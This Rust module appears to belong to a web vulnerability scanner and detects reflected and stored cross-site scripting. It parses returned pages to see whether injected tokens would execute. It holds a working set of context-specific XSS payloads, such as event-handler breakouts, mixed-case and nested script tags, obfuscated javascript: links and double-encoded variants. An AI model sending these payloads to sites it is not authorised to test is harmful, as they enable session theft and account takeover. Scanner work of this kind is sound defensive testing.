//! Cross-site scripting, reflected and stored: shown by parsing the page as a browser does and finding code
//! of ours where it would run.
//!
//! A word is sent first; where it comes back says which payloads fit. A payload counts when the page that
//! comes back has its word as code: in a handler, a script or a `javascript:` link. What is stored is seen
//! when all pages are fetched again.

use vedette_protocol::finding::{Confidence, FindingType, ShownBy};

use super::{Of, Test, canary};
use crate::web::{
    html::{self, Document, Element},
    response::Response,
    script::{self, Kind},
    trial::{Facts, Proof, Trial, Verdict, tokens},
};

pub(crate) const TEST: Test = Test {
    name: "xss",
    of: Of::Input,
    budget: 30,
    judge,
    afterwards,
};

fn judge(trial: &Trial<'_>) -> Verdict {
    let reply = trial.reply(&canary(trial))?;
    let places = places(reply, &trial.token(0));
    let keeps = trial.subject.request.method != "GET";
    if places.is_empty() && !keeps {
        return Ok(None);
    }
    let breaking = |token: &str| {
        format!(
            "{}'\"--></title></textarea></style></script><svg onload={token}>",
            trial.value()
        )
    };
    let broken = trial.reply(&breaking(&trial.token(1)))?;
    if let Some(context) = running(broken, &trial.token(1)) {
        let repeated = running(trial.reply(&breaking(&trial.token(2)))?, &trial.token(2));
        return Ok(repeated.map(|_| proof(broken, FindingType::WebXssReflected, context)));
    }
    // What comes back with its brackets encoded cannot make markup; code it may make.
    let encoded = broken
        .text()
        .contains(&format!("&lt;svg onload={}", trial.token(1)));
    let mut number = 3;
    for place in &places {
        for spell in place.payloads(encoded) {
            let send = |number| (trial.token(number), spell(trial.value(), &trial.token(number)));
            let (token, payload) = send(number);
            if let Some(context) = running(trial.reply(&payload)?, &token) {
                let (token, payload) = send(number + 1);
                let reply = trial.reply(&payload)?;
                return Ok(
                    running(reply, &token).map(|_| proof(reply, FindingType::WebXssReflected, context))
                );
            }
            number += 2;
        }
    }
    Ok(None)
}

fn afterwards(facts: &Facts, response: &Response) -> Vec<(usize, Proof)> {
    let text = response.text();
    let mut found: Vec<(usize, Proof)> = Vec::new();
    for (number, token) in tokens(&facts.seed, &text) {
        if found.iter().any(|(known, _)| *known == number) {
            continue;
        }
        if let Some(context) = running(response, token) {
            found.push((number, proof(response, FindingType::WebXssStored, context)));
        }
    }
    found
}

fn proof(response: &Response, type_: FindingType, detail: &'static str) -> Proof {
    // A policy without inline scripts keeps the code from running; the page is broken all the same.
    let policy = response.all("content-security-policy").any(|policy| {
        (policy.contains("script-src") || policy.contains("default-src"))
            && !policy.contains("'unsafe-inline'")
    });
    Proof {
        type_,
        confidence: if policy {
            Confidence::Tentative
        } else {
            Confidence::Certain
        },
        shown_by: ShownBy::RunningScript,
        detail,
    }
}

/// Where a word would run on a page, if it would.
fn running(response: &Response, word: &str) -> Option<&'static str> {
    if !response.is_page() || !response.text().contains(word) {
        return None;
    }
    in_document(&html::parse(&response.body), word, 0)
}

fn in_document(document: &Document, word: &str, depth: usize) -> Option<&'static str> {
    document
        .elements()
        .filter(|element| element.within("template").is_none())
        .find_map(|element| in_element(element, word, depth))
}

fn in_element(element: Element<'_>, word: &str, depth: usize) -> Option<&'static str> {
    for (name, value) in element
        .attributes()
        .iter()
        .filter(|(_, value)| value.contains(word))
    {
        if name.starts_with("on") && script::runs(value, word) {
            return Some("event handler");
        }
        if is_link(name) && script_link(value).is_some_and(|code| script::runs(&code, word)) {
            return Some("script link");
        }
        if name == "srcdoc" && depth == 0 {
            let inner = in_document(&html::parse(value.as_bytes()), word, depth + 1);
            if inner.is_some() {
                return inner;
            }
        }
    }
    (is_script(element) && script::runs(&element.text(), word)).then_some("script")
}

fn is_script(element: Element<'_>) -> bool {
    let kind = element.attribute("type").unwrap_or_default().to_ascii_lowercase();
    element.name() == "script"
        && (kind.is_empty() || kind == "module" || kind.contains("javascript") || kind.contains("ecmascript"))
}

fn is_link(name: &str) -> bool {
    matches!(
        name,
        "href" | "src" | "action" | "formaction" | "data" | "xlink:href"
    )
}

/// The code of a `javascript:` link, as browsers read its beginning (URL Standard, section 4.4).
fn script_link(value: &str) -> Option<String> {
    let plain: String = value
        .trim_start_matches(|c: char| c <= ' ')
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect();
    let (scheme, code) = plain.split_once(':')?;
    scheme.eq_ignore_ascii_case("javascript").then(|| code.to_owned())
}

/// Where a word came back.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Place {
    /// As text, or in a comment, or as the text of a field.
    Markup,
    /// In an attribute's value.
    Attribute,
    /// At the beginning of a link.
    Link,
    /// In a script or a handler, as code.
    Code,
    /// In a script or a handler, in a string with these quotes.
    Quoted(char),
    /// In the text of a template.
    Template,
}

type Spell = fn(&str, &str) -> String;

impl Place {
    fn payloads(self, encoded: bool) -> Vec<Spell> {
        let markup: &[Spell] = &[
            |value, code| format!("{value}<img src=k onerror={code}>"),
            |value, code| format!("{value}<ScRiPt>{code}</sCrIpT>"),
            |value, code| format!("{value}<scr<script>ipt>{code}</scr</script>ipt>"),
            |value, code| format!("{value}<details/open/ontoggle={code}>"),
        ];
        // Where the value is decoded once more than it should be.
        let twice: Spell = |value, code| format!("{value}%22%3E%3Csvg%20onload%3D{code}%3E");
        match self {
            Self::Markup if encoded => vec![twice],
            Self::Markup => [markup, &[twice]].concat(),
            Self::Attribute => vec![
                |value, code| format!("{value}\" autofocus onfocus={code} k=\""),
                |value, code| format!("{value}' autofocus onfocus={code} k='"),
                |value, code| format!("{value} autofocus onfocus={code} "),
                twice,
            ],
            Self::Link => vec![|_, code| format!("javascript:{code}"), |_, code| {
                format!("JaVa\tScRiPt:{code}")
            }],
            Self::Code => vec![|value, code| format!("{value};{code};"), |value, code| {
                format!("{value}-{code}")
            }],
            Self::Quoted('"') => vec![
                |value, code| format!("{value}\"-{code}-\""),
                |value, code| format!("{value}\\\"-{code}//"),
                |value, code| format!("{value}&#34;-{code}-&#34;"),
                |value, code| format!("{value}</script><svg onload={code}>"),
            ],
            Self::Quoted(_) => vec![
                |value, code| format!("{value}'-{code}-'"),
                |value, code| format!("{value}\\'-{code}//"),
                |value, code| format!("{value}&#39;-{code}-&#39;"),
                |value, code| format!("{value}</script><svg onload={code}>"),
            ],
            Self::Template => vec![|value, code| format!("{value}${{{code}}}")],
        }
    }
}

/// Where a word stands on a page, each kind of place once.
fn places(response: &Response, word: &str) -> Vec<Place> {
    if !response.is_page() || !response.text().contains(word) {
        return Vec::new();
    }
    let document = html::parse(&response.body);
    let mut places = Vec::new();
    for element in document.elements() {
        for (name, value) in element
            .attributes()
            .iter()
            .filter(|(_, value)| value.contains(word))
        {
            if name.starts_with("on") {
                places.extend(in_code(value, word));
            }
            // The value of the input itself is before the word.
            if is_link(name) && !value.starts_with(['/', '#', '?', '.']) {
                places.push(Place::Link);
            }
            places.push(Place::Attribute);
        }
        if is_script(element) {
            places.extend(in_code(&element.text(), word));
        }
    }
    // In a comment, a field or a text; and for pages that a parser reads in another way.
    places.push(Place::Markup);
    let mut once: Vec<Place> = Vec::new();
    for place in places {
        if !once.contains(&place) {
            once.push(place);
        }
    }
    once
}

fn in_code(source: &str, word: &str) -> Vec<Place> {
    script::pieces(source)
        .iter()
        .filter(|piece| {
            source
                .get(piece.start..piece.end)
                .is_some_and(|text| text.contains(word))
        })
        .map(|piece| match piece.kind {
            Kind::Code => Place::Code,
            Kind::Text(quote) => Place::Quoted(quote),
            Kind::Template => Place::Template,
            Kind::Inert => Place::Markup,
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn page(body: &str) -> Response {
        Response::answering(200, &[("Content-Type", "text/html")], body)
    }

    #[test]
    fn code_counts_where_it_would_run_alone() {
        for runs in [
            "<svg onload=w1>",
            "<a href=' java\nscript:w1'>x</a>",
            "<script>a='x'-w1-'y'</script>",
            "<iframe srcdoc='<svg onload=w1>'></iframe>",
            "<p title=\"x\" onfocus=w1 k=\"\">",
        ] {
            assert!(running(&page(runs), "w1").is_some(), "{runs}");
        }
        for idle in [
            "&lt;svg onload=w1&gt;",
            "<textarea><svg onload=w1></textarea>",
            "<script>a='\\'-w1-\\''</script>",
            "<script type=application/json>w1</script>",
            "<p title='onload=w1'>w1",
            "<!-- <svg onload=w1> -->",
            "<a href='/javascript:w1'>x</a>",
            "<template><svg onload=w1></template>",
        ] {
            assert_eq!(running(&page(idle), "w1"), None, "{idle}");
        }
    }
}
